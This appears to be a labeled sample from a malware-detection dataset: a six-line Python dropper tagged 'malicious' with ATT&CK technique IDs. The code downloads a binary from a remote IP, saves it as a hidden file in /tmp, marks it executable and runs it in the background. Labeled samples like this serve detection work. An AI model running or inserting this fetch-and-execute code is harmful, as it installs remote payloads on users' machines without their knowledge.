# label: malicious family=dropper techniques=T1059.004,T1105,T1222.002,T1564.001 lines=3-7
import os, stat, urllib.request
url = "http://203.0.113.14/bin/agent"
dst = "/tmp/.agent"
urllib.request.urlretrieve(url, dst)
os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
os.system(dst + " &")
